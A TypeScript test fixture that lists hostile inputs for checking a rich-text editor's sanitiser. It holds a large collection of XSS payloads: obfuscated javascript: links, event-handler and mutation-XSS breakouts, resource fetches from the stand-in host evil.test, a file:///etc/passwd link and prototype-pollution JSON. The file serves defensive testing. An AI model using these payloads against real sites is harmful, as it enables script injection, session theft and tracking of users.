// Markup that tries to run a script or to fetch something from outside, in every way that we know of. What runs sets
// `globalThis.wasRun`; what is fetched comes from evil.test.

const run = 'globalThis.wasRun=1';
const away = 'https://evil.test/x';

const handlers = [
  'onload onerror onclick onmouseover onfocus onanimationstart ontransitionend onpointerenter ontoggle',
  'onbeforeinput onpaste oncopy ondragstart onscroll onwheel onbegin onpageshow onhashchange onmessage',
].flatMap((names) => names.split(' '));

const tags = ['img src=x', 'svg', 'body', 'video src=x', 'p', 'table', 'a href="#"', 'details open'];

const withHandlers = handlers.flatMap((handler, index) => {
  const tag = tags[index % tags.length] ?? 'p';
  return [`<${tag} ${handler}="${run}">text`, `<${tag}/${handler.toUpperCase()}=${run}>text`];
});

/** As addresses of links, and as text that a person enters for one. */
export const hostileLinks: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `javascript\u0000:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `javascript:%0a${run}`,
  `javascript://example.test/%0a${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLndhc1J1bj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  'blob:https://evil.test/0f8fad5b-d9cb-469f-a165-70867728950e',
  'file:///etc/passwd',
  'file://evil.test/share',
  '\\\\evil.test\\share',
  '//evil.test/x',
  'ms-word:ofe|u|https://evil.test/x.docx',
  'intent://evil.test#Intent;scheme=https;end',
  'view-source:https://evil.test',
  'feed:javascript:1',
  'jar:https://evil.test/x!/y',
  'ws://evil.test',
  'ftp://evil.test/x',
  'about:blank',
  'chrome://settings',
  'sms:+1555',
  'http:evil.test',
  'https:/evil.test',
  'https:// evil.test',
  'https://evil.test/\u0000',
  'https://evil.test/\n',
  'mailto:',
  'tel:',
  '',
  '#',
  '/api/files/x',
];

const withLinks = hostileLinks.flatMap((link) => {
  const href = link.replaceAll('"', '&quot;');
  return [
    `<a href="${href}">text</a>`,
    `<form action="${href}"><button formaction="${href}">text</button></form>`,
  ];
});

const fetching = [
  `<img src="${away}">`,
  `<img srcset="${away} 2x" src="${away}">`,
  `<img src="//evil.test/x">`,
  `<img src="${away}" data-file-id="../../secret">`,
  `<img src="${away}" data-file-id="aaaaaaaaaaaaaaaaaaaa" alt="x">`,
  `<picture><source srcset="${away}"><img></picture>`,
  `<video poster="${away}"><source src="${away}"></video>`,
  `<audio src="${away}" autoplay>`,
  `<iframe src="${away}"></iframe>`,
  `<iframe srcdoc="<script>parent.wasRun=1</script>"></iframe>`,
  `<embed src="${away}">`,
  `<object data="${away}"></object>`,
  `<link rel="stylesheet" href="${away}">`,
  `<link rel="preload" as="image" href="${away}">`,
  `<style>@import url(${away}); p { background: url(${away}) }</style><p>text</p>`,
  `<p style="background:url(${away})">text</p>`,
  `<p style="background-image:image-set('${away}' 1x)">text</p>`,
  `<table background="${away}"><tr><td background="${away}">text</td></tr></table>`,
  `<body background="${away}">text`,
  `<input type="image" src="${away}">`,
  `<svg><image href="${away}" xlink:href="${away}"/></svg>`,
  `<svg><use href="${away}#x"/></svg>`,
  `<svg><feImage href="${away}"/></svg>`,
  `<base href="https://evil.test/"><a href="x">text</a>`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<a ping="${away}" href="https://example.test">text</a>`,
  `<script src="${away}"></script>`,
  `<p style="list-style:url(${away})"><li style="cursor:url(${away}),auto">text</p>`,
  `<v:imagedata src="${away}" o:title="x"/>`,
  `<track src="${away}">`,
];

const running = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type="module">${run}</script>`,
  `<p>before<script>${run}</script>after</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>text</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<math href="javascript:${run}">text</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">text</maction></math>`,
  `<template><img src=x onerror=${run}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--[if gte mso 9]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<p style="width:expression(${run})">text</p>`,
  `<p style="behavior:url(#default#time2)" onbegin="${run}">text</p>`,
  `<p style="-moz-binding:url(${away})">text</p>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>text</select>`,
  `<marquee onstart=${run}>text</marquee>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<dialog open onclose=${run}><form method=dialog><button>text</button></form></dialog>`,
  `<p is="x-y" onclick=${run} contenteditable autofocus>text</p>`,
  `<div id="__proto__"><div name="constructor">text</div></div>`,
  `<form id="cookie"><input name="body"><input name="attributes"></form>`,
  `<p data-pm-slice='1 1 ["__proto__",{"wasRun":1}]'>text</p>`,
  `<p data-pm-slice="0 0 []" onclick="${run}">text</p>`,
  `<h1 onclick="${run}" style="position:fixed;inset:0">text</h1>`,
  `<ol start="javascript:${run}" type="x&quot; onclick=${run}"><li value="9e99">text</ol>`,
  `<table><tr><td colspan="99999999" rowspan="-1" colwidth="1,${run}">text</td></tr></table>`,
  `<th onclick="${run}" align="x&quot; onload=${run}">text</th>`,
  `<a href="https://example.test" target="_top" rel="opener" onclick="${run}">text</a>`,
  `<a href="https://example.test"><img src=x onerror=${run}></a>`,
  `<blockquote cite="javascript:${run}">text</blockquote>`,
  `<del cite="javascript:${run}"><ins datetime="x" onclick=${run}>text</ins></del>`,
  `<strong onmouseenter="${run}"><em style="background:url(${away})"><u onclick=${run}>text</u></em></strong>`,
];

const fromWord = [
  `<html xmlns:o="urn:schemas-microsoft-com:office:office"><body><p class=MsoNormal onclick="${run}">text<o:p></o:p></p></body></html>`,
  `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1;background:url(${away})'><![if !supportLists]>1.<![endif]>text</p>`,
  `<!--[if gte vml 1]><v:shape><v:imagedata src="${away}"/></v:shape><![endif]--><img src="file:///C:/Users/x/clip_image001.png">`,
  `<meta name=Generator content="Microsoft Word 15"><style>@font-face{src:url(${away})}</style><p class=MsoTitle>text</p>`,
  `<p class=MsoNormal><a href="javascript:${run}"><span style='mso-bookmark:x'>text</span></a></p>`,
  `<xml><o:OfficeDocumentSettings onload="${run}"/></xml><p class=MsoNormal>text</p>`,
  `<link rel=File-List href="file:///C:/x/filelist.xml"><link rel=themeData href="${away}"><p>text</p>`,
  `<p class=MsoNormal><object data="${away}"><param name=src value="${away}"></object>text</p>`,
];

/** For pasting, and as plain text, which must stay text. */
export const hostileHtml: readonly string[] = [
  ...running,
  ...fetching,
  ...fromWord,
  ...withHandlers,
  ...withLinks,
];

const text = (marks: unknown) => ({ type: 'text', text: 'text', marks });
const paragraph = (...content: unknown[]) => ({ type: 'paragraph', content });

/** Blocks that no document may have. */
export const hostileBlocks: readonly unknown[] = [
  ...hostileLinks.map((href) => paragraph(text([{ type: 'link', attrs: { href } }]))),
  paragraph(text([{ type: 'link', attrs: { href: 'https://a.test', onclick: run } }])),
  paragraph(text([{ type: 'link', attrs: { href: 'https://a.test', target: '_top' } }])),
  paragraph(text([{ type: 'link', attrs: { href: ['https://a.test'] } }])),
  paragraph(text([{ type: 'code' }])),
  paragraph(text([{ type: 'textStyle', attrs: { style: `background:url(${away})` } }])),
  paragraph({ type: 'text', text: '' }),
  paragraph({ type: 'text', text: { toString: run } }),
  paragraph({ type: 'text', text: 'a\u0000b' }),
  paragraph({ type: 'text', text: 'a\ud800' }),
  paragraph({ type: 'image', attrs: { fileId: 'a'.repeat(20), alt: '' } }),
  { type: 'paragraph', attrs: { style: 'x' } },
  { type: 'paragraph', content: [], dangerouslySetInnerHTML: { __html: `<script>${run}</script>` } },
  { type: 'paragraph', content: 'text' },
  { type: 'heading', attrs: { level: 4 }, content: [] },
  { type: 'heading', attrs: { level: '1' }, content: [] },
  { type: 'image', attrs: { fileId: away, alt: '' } },
  { type: 'image', attrs: { fileId: '../'.repeat(6).padEnd(20, 'a'), alt: '' } },
  { type: 'image', attrs: { fileId: 'a'.repeat(20), alt: '', src: away } },
  { type: 'image', attrs: { src: away } },
  { type: 'html', content: [] },
  { type: 'script', content: [{ type: 'text', text: run }] },
  { type: 'codeBlock', content: [{ type: 'text', text: run }] },
  { type: 'iframe', attrs: { src: away } },
  { type: '__proto__', content: [] },
  { type: 'constructor', content: [] },
  { type: 'toString' },
  { type: 'orderedList', attrs: { start: 1, type: 'x' }, content: [] },
  { type: 'table', content: [] },
  {
    type: 'table',
    content: [
      {
        type: 'tableRow',
        content: [
          { type: 'tableCell', attrs: { colspan: 1e9, rowspan: 1, colwidth: null }, content: [paragraph()] },
        ],
      },
    ],
  },
  {
    type: 'table',
    content: [
      {
        type: 'tableRow',
        content: Array.from({ length: 2 }, () => ({
          type: 'tableCell',
          attrs: { colspan: 50, rowspan: 1, colwidth: null },
          content: [paragraph()],
        })),
      },
    ],
  },
  JSON.parse('{"type":"paragraph","__proto__":{"content":[]}}'),
  JSON.parse('{"type":"paragraph","constructor":{"prototype":{"wasRun":1}}}'),
  JSON.parse('{"type":"heading","attrs":{"level":1,"__proto__":{"wasRun":1}}}'),
  null,
  'text',
  7,
  [],
];
